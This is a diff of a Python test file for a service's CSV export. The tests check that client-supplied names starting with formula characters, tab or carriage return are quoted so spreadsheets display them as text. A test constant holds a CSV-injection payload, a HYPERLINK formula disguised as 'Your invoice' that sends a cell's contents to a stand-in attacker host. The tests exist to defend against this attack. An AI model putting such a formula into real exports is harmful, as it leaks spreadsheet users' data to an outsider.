@@ -73,13 +73,18 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Your invoice")'
 def test_a_formula_sent_as_the_openai_user_exports_as_text(pm: Client, post_batch: Any) -> None:
     """CSV injection: a client-chosen text that starts like a formula is written with a leading single
     quote, so a spreadsheet shows it instead of running it (OWASP's advice)."""
-    hostile = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+    hostile = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"]  # a leading tab or CR: ingest refuses those
     records = [event_dict(end_user=user) for user in [*hostile, "alice", "a=b"]]
     assert post_batch(batch_body(events=records)).json()["accepted"] == len(records)
 
     users = {u["end_user"] for u in rows(pm.get("/tenants/acme/?format=csv&table=end-users"))}
 
     assert users == {*(f"'{user}" for user in hostile), "alice", "a=b"}
+
+
+def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_text_too() -> None:
+    """Names stored before ingest refused control characters may still start with one."""
+    assert [cell("\t=1+1"), cell("\r=1+1"), cell("\t")] == ["'\t=1+1", "'\r=1+1", "'\t"]
 
 
 def test_numbers_in_an_export_stay_numbers_negative_ones_included() -> None:
